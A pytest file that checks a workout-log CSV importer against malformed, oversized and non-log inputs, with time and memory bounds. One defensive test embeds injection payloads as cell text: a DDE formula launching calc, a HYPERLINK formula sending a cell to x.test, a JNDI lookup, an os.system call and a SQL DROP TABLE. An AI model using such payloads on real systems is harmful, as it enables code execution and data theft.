"""Files that are none, or want to do harm: each is read or refused, in time and in memory."""

from __future__ import annotations

import io
import json
import sqlite3
import sys
import tracemalloc
import zipfile

import attrs
import pytest
from accounts import read_or_refuse

from liftguard.errors import UnreadableLog
from liftguard.importers import read_log

HEADER = (
    "Date;Workout Name;Exercise Name;Set Order;Weight;Weight Unit;Reps;RPE;Distance;"
    "Distance Unit;Seconds;Notes;Workout Notes\n"
)
ROW = "2020-02-03 18:00:00;Push;Bench Press;1;100.0;kg;5;8;;;0;slow;\n"
SMALL = HEADER + ROW + ROW.replace("slow", '"slow;\n""light"""') + ROW.replace(";5;", ";3;")
HEVY = (
    "title;start_time;end_time;description;exercise_title;exercise_notes;set_index;set_type;"
    "weight_kg;reps;distance_km;duration_seconds;rpe\n"
)
HEVY_ROW = "A;12 Dec 2024, 13:18;12 Dec 2024, 14:18;;Squat;;0;normal;100;5;;;\n"


def counts(log):
    return log.rows_read, log.rows_with_sets, len(log.skipped), len(log.problems)


def reasons(log):
    return [(skip.row, skip.reason) for skip in log.skipped]


# --- files in another encoding


ASSUMED = "the letters were read as {}, as nothing shows what they are"


@pytest.mark.parametrize(
    ("encoding", "read"),
    [
        ("utf-8-sig", ""),
        ("utf-16", ""),
        ("cp1252", ASSUMED.format("Windows-1252")),
        ("latin-1", ASSUMED.format("Windows-1252")),
        ("utf-16-be", ASSUMED.format("utf-16-be")),
        ("utf-16-le", ASSUMED.format("utf-16-le")),
        ("utf-32", None),
        ("utf-32-le", None),
    ],
)
def test_encodings(encoding, read):
    text = SMALL.replace("Push", "Drücken, groß")
    raw = text.encode(encoding)
    log = read_or_refuse(raw)
    plain = read_log(text.encode())
    if read is not None:
        assert log == attrs.evolve(plain, notices=(read,) if read else ())
        assert log.history[0].session == "Drücken, groß 2020-02-03 18:00"
    elif log is not None:
        assert log.history == plain.history


@pytest.mark.parametrize("encoding", ["gbk", "shift_jis", "big5"])
def test_old_encodings_of_the_far_east(encoding):
    """Names may be unreadable then; loads, repetitions and moments are as they stand."""
    text = SMALL.replace("Push", "日").replace("Bench Press", "日本")
    log = read_or_refuse(text.encode(encoding))
    if log is not None:
        assert [(done.load_kg, done.reps) for done in log.history] == [
            (100.0, 5),
            (100.0, 5),
            (100.0, 3),
        ]


# --- what is no log at all


def _zip():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return file.getvalue()


def _database(*statements):
    database = sqlite3.connect(":memory:")
    for statement in statements:
        database.execute(statement)
    data = database.serialize()
    database.close()
    return data


NO_LOGS = {
    "nothing": b"",
    "spaces": b" \t\r\n" * 1000,
    "a byte": b"\xff",
    "every byte": bytes(range(256)) * 40,
    "NUL bytes": b"\0" * 4096,
    "NUL bytes in a header": HEADER.replace("a", "a\0\0\0").encode()[:100],
    "a zip": _zip(),
    "a zip cut off": _zip()[:20],
    "a page": b"<!DOCTYPE html><html><body><table><tr><td>Date</td><td>Reps</td></tr></table>",
    "a page that asks to log in": b"<html>\n<head><title>Sign in, please</title></head>\n" * 50,
    "JSON": json.dumps({"workouts": [{"date": "2024-05-01", "sets": [1, 2, 3]}] * 50}).encode(),
    "JSON in lines": b'{"date": "2024-05-01", "reps": 5}\n' * 50,
    "deep JSON": b"[" * 100_000,
    "XML": b'<?xml version="1.0"?>\n' + b"<a>" * 1000,
    "a program": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0>\0" * 100,
    "a database of something else": _database("CREATE TABLE notes (id INTEGER, text TEXT)"),
    "a database with views": _database(
        "CREATE TABLE t (a)",
        "CREATE VIEW training_log AS SELECT a AS _id FROM t",
        "CREATE VIEW exercise AS SELECT a AS _id FROM t",
    ),
    "the head of a database": b"SQLite format 3\0" + b"\xff" * 200,
    "separators": b"," * 1000,
    "a million separators": b"," * 1_000_000,
    "quotes": b'"' * 1001,
    "a line": b"x" * 10_000_000,
    "a header of another table": b"id,price,quantity\n1,2,3\n" * 20,
    "a header that goes on and on": ",".join(f"column {n}" for n in range(50_000)).encode(),
    "sep= alone": b"sep=;",
    "byte order marks": b"\xef\xbb\xbf" * 3,
}


@pytest.mark.parametrize("name", NO_LOGS)
@pytest.mark.parametrize("app", [None, "fitnotes"])
def test_what_is_no_log_is_refused_in_a_sentence(name, app):
    with pytest.raises(UnreadableLog) as caught:
        read_log(NO_LOGS[name], app=app)
    refusal = caught.value
    assert refusal.where == "the bytes given"
    assert refusal.wanted
    assert refusal.hint
    assert 10 < len(str(refusal)) < 700
    assert "\n" not in str(refusal)
    assert isinstance(refusal.got, str)
    assert 0 < len(refusal.got) <= 200


def test_paths_that_lead_nowhere(tmp_path):
    loop = tmp_path / "loop.csv"
    loop.symlink_to(loop)
    for path in (tmp_path, loop, tmp_path / "none.csv", "", "\0", "x" * 5000, loop / "log.csv"):
        with pytest.raises(UnreadableLog) as caught:
            read_log(path)
        assert caught.value.hint


# --- rows that hold nothing, and files put one after the other


def test_a_header_that_comes_again_is_skipped():
    log = read_log((SMALL + "\ufeff" + SMALL).encode("utf-8-sig"))
    assert counts(log) == (7, 6, 1, 0)
    assert reasons(log) == [(4, "header again")]
    assert [done.reps for done in log.history] == [5, 5, 3, 5, 5, 3]


def test_a_header_with_other_columns_further_down_begins_another_table():
    """Below it the same place may hold pounds: what it holds is read by its own header."""
    pounds = HEVY.replace("weight_kg", "weight_lbs")
    log = read_log((HEVY + HEVY_ROW * 2 + pounds + HEVY_ROW).encode())
    assert [done.load_kg for done in log.history] == [100, 100, 45.359237]
    assert reasons(log) == [(3, "header of another table")]
    shorter = HEADER.replace("Notes;", "").replace("RPE;", "")
    log = read_log((HEADER + ROW + shorter + ROW.replace(";8;;;0;slow", ";;;0;slow")).encode())
    assert (counts(log), reasons(log)) == ((3, 2, 1, 0), [(2, "header of another table")])


def test_a_row_that_is_cut_off_is_no_line_of_the_note_before_it():
    log = read_log((HEADER + ROW + "and a line\n" + ROW[:19]).encode())
    assert counts(log) == (2, 1, 0, 1)
    assert log.problems[0].got == "2020-02-03 18:00:00"
    assert log.history[0].note == "slow; and a line"


def test_rows_of_separators_are_skipped_and_counted():
    blank = ";" * 12 + "\n"
    log = read_log((HEADER + blank + ROW + blank * 2 + ROW + ";;;\n" + blank + ";;\n").encode())
    assert counts(log) == (8, 2, 6, 0)
    assert reasons(log) == [(row, "blank row") for row in (1, 3, 4, 6, 7, 8)]
    assert counts(read_log((HEADER + blank * 100).encode())) == (100, 0, 100, 0)


def test_blank_rows_are_no_sign_of_other_contents():
    blank = ";" * 12 + "\n"
    assert counts(read_log((HEADER + (blank * 3 + ROW) * 20).encode())) == (80, 20, 60, 0)


def test_a_row_of_totals_is_a_problem_that_names_it():
    log = read_log((HEADER + ROW + "Total;;;;100.0;;5;;;;;;\n").encode())
    assert counts(log) == (2, 1, 0, 1)
    assert (log.problems[0].row, log.problems[0].column) == (2, "Date")
    assert log.problems[0].got == "Total"


@pytest.mark.parametrize("end", ["\r", "\r\n", "\n", "\r\r\n", "\n\n"])
@pytest.mark.parametrize("first", ["", "sep=;", '"sep=;"', "\n", "SEP=;"])
def test_line_ends_and_first_lines(end, first):
    text = (first + "\n" if first else "") + HEADER + ROW * 3
    log = read_log(text.replace("\n", end).encode())
    assert counts(log) == (3, 3, 0, 0)
    assert log.history[2].note == "slow"


def test_mixed_line_ends():
    log = read_log((HEADER + ROW + ROW.replace("\n", "\r") + ROW.replace("\n", "\r\n")).encode())
    assert counts(log) == (3, 3, 0, 0)


@pytest.mark.parametrize("sign", ["\x0b", "\x0c", "\x85", "\u2028", "\u2029"])
def test_signs_that_end_no_line(sign):
    log = read_log((HEADER + ROW.replace("slow", f'"a{sign}b;\nc{sign}d"') + ROW).encode())
    assert counts(log) == (2, 2, 0, 0)
    assert log.history[0].note == f"a{sign}b;\nc{sign}d"


def test_an_unclosed_quote_at_the_start_of_a_large_file():
    log = read_log(('"' + HEADER + ROW * 80_000).encode())
    assert counts(log) == (80_000, 80_000, 0, 0)


def test_a_stray_quote_takes_nothing_from_the_rows_after_it():
    """The rows that it swallowed are read as if it were not there, quoted texts and all."""
    quoted = ROW.replace("Push", '"Push; hard"').replace("Bench Press", '"Bench Press"')
    log = read_log((HEADER + ROW.replace("slow", '"slow') + quoted * 3).encode())
    assert counts(log) == (4, 4, 0, 0)
    assert [done.session for done in log.history] == [
        "Push 2020-02-03 18:00",
        *["Push; hard 2020-02-03 18:00"] * 3,
    ]
    assert {done.lift for done in log.history} == {"bench_press"}
    assert log.history[0].note == "slow"


def test_a_long_note_between_quotes():
    """The csv module takes no cell of more than 131072 characters."""
    note = "so heavy, " * 20_000
    row = ROW.replace("slow", f'"{note}"').replace("Bench Press", '"Bench Press"')
    log = read_log((HEADER + row + ROW).encode())
    assert counts(log) == (2, 2, 0, 0)
    assert log.history[0].note == note.strip()
    assert log.history[0].lift == "bench_press"


def test_lines_after_a_text_stay_with_it():
    """A note whose lines are not quoted goes on below its row, and no date begins in it."""
    log = read_log(
        (
            HEADER.replace(";Workout Notes", "") + ROW.replace(";\n", "\n") + "more\nand more\n"
        ).encode()
    )
    assert log.history[0].note == "slow\nmore\nand more"


# --- formulas and code


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.test?"&A1;"open")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "__import__('os').system('true')",
        "${jndi:ldap://x.test/a}",
        "'; DROP TABLE training_log; --",
        "%s%s%s%n",
        "{self.__class__}",
    ],
)
def test_formulas_and_code_are_text(text):
    cell = '"' + text.replace('"', '""') + '"'
    log = read_log((HEADER + ROW.replace("slow", cell).replace("Bench Press", cell)).encode())
    assert (log.history[0].note, log.history[0].lift) == (text, text)


@pytest.mark.parametrize(
    "value", ["9" * 5000, "1" + "0" * 400, "1e999", "-1e308", "٣", "½", "0x10"]
)
@pytest.mark.parametrize("place", [0, 3, 4, 6, 7, 10])
def test_numbers_that_are_none(place, value):
    cells = ROW.rstrip("\n").split(";")
    cells[place] = value
    assert read_or_refuse((HEADER + ROW + ";".join(cells) + "\n").encode()).rows_read == 2
    cells = HEVY_ROW.rstrip("\n").split(";")
    cells[(1, 0, 0, 6, 8, 6, 9, 12, 0, 0, 11)[place]] = value
    assert read_or_refuse((HEVY + HEVY_ROW + ";".join(cells) + "\n").encode()).rows_read == 2


def test_values_that_cannot_be_written_as_text_are_problems():
    """Python refuses to write a whole number of thousands of digits."""
    row = {"when": "2024-05-01", "lift": "Squat", "kg": 100, "reps": 5}
    log = read_log([row, {**row, "kg": 10**5000}, {**row, "reps": b"5"}])
    assert [(problem.row, problem.column) for problem in log.problems] == [(2, "kg"), (3, "reps")]


# --- time and memory

GYMBOOK = (
    "Data;Programma;Orario;Esercizio;Zona;Gruppi muscolari (Primari);"
    "Gruppi muscolari (Secondari);Set / Set di riscaldamento / Set di defaticamento;"
    "Ripetizioni / Tempo;Peso / Distanza;Appunti;Saltato\n"
)
FITNOTES = "Date,Exercise,Category,Weight (kgs),Reps,Distance,Distance Unit,Time,Comment\n"

LARGE = {
    "rows": lambda n: HEADER + ROW * (n // len(ROW)),
    "a line": lambda n: HEADER + ROW + "x" * n,
    "a line of separators": lambda n: HEADER + ROW + ";" * n,
    "lines without separators": lambda n: HEADER + ROW + "x\n" * (n // 2),
    "lines before a first text": lambda n: HEVY + HEVY_ROW + "x\n" * (n // 2) + HEVY_ROW[9:],
    "half rows": lambda n: HEVY + HEVY_ROW + "x;y\n" * (n // 4),
    "blank rows": lambda n: HEADER + (";" * 12 + "\n") * (n // 13),
    "headers": lambda n: HEADER * (n // len(HEADER)),
    "an unclosed quote": lambda n: HEADER + '"' + ROW * (n // len(ROW)),
    "an unclosed quote in every row": lambda n: (
        HEADER + ROW.replace("slow", '"slow') * (n // len(ROW))
    ),
    "quoted line ends": lambda n: HEADER + ROW.replace("slow", '"' + "a\n" * (n // 2) + '"'),
    "quoted rows": lambda n: HEADER + ROW.replace("slow", '"' + "a;b\n" * (n // 4) + '"'),
    "quotes": lambda n: HEADER + '"' * n,
    "pairs of quotes": lambda n: HEADER + '"";' * (n // 3),
    "columns": lambda n: ";".join(f"c{m}" for m in range(n // 6)) + "\n",
    "names": lambda n: (
        HEADER + "".join(ROW.replace("Bench", f"B{m}") for m in range(n // len(ROW)))
    ),
    "a long name": lambda n: HEADER + ROW.replace("Bench Press", "bench (" * (n // 7)),
    "a long date": lambda n: HEADER + ROW.replace("2020-02-03", "1" * n),
    "a long number": lambda n: HEADER + ROW.replace("100.0", "1" * n),
    "spaces in a cell": lambda n: (
        GYMBOOK + f"5/1/22;A;18:30;Stacco;;;;{' ' * n}x;{' ' * n}x;{' ' * n}x;;No\n"
    ),
    "many times in a cell": lambda n: (
        GYMBOOK + f"5/1/22;A;18:30;Stacco;;;;Set;{'1 s ' * (n // 4)}!;60 kg;;No\n"
    ),
    "commas in a name": lambda n: FITNOTES + f"2/13/2024,Press{',a' * (n // 2)},Back,20,8,,,,\n",
    "exertions in a comment": lambda n: (
        FITNOTES + "2/13/2024,Press,Back,20,8,,,," + "rpe " * (n // 4)
    ),
    "pipes": lambda n: f"Date|Squat|Bench\n2020-01-01|100,5,5|1{' ,1' * (n // 3)}x\n",
}


class Steps:
    """Count the lines of Python that a call runs: a measure of work that no clock disturbs."""

    def __init__(self):
        self.count = 0

    def __enter__(self):
        sys.settrace(self._called)
        return self

    def __exit__(self, *_):
        sys.settrace(None)

    def _called(self, *_):
        self.count += 1
        return self._line

    def _line(self, *_):
        self.count += 1
        return self._line


def work(raw):
    """Give the lines run to read a file."""
    with Steps() as steps:
        read_or_refuse_quietly(raw)
    return steps.count


def read_or_refuse_quietly(raw):
    try:
        return read_log(raw, unit="kg")
    except UnreadableLog:
        return None


@pytest.mark.parametrize("name", LARGE)
def test_twice_the_file_is_twice_the_work(name):
    small, large = (LARGE[name](size).encode() for size in (6_000, 24_000))
    read_or_refuse(small)
    read_or_refuse(large)
    work(small)  # what is done once
    assert work(large) <= 6 * work(small) + 1_000


# An object of Python for each cell: a text of one letter takes 50 bytes, its place in a row 8,
# and in a column 8; a row 56 and up, a problem with its number and text some 300. Lines of
# two bytes are the worst case, and a problem each: some 500 bytes stand for two.
MOST_BYTES_PER_BYTE = 300


@pytest.mark.parametrize("name", LARGE)
def test_memory_is_bounded_by_the_size_of_the_file(name):
    raw = LARGE[name](100_000).encode()
    read_or_refuse_quietly(raw[:2_000])
    tracemalloc.start()
    try:
        read_or_refuse_quietly(raw)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak <= MOST_BYTES_PER_BYTE * len(raw) + 1_000_000
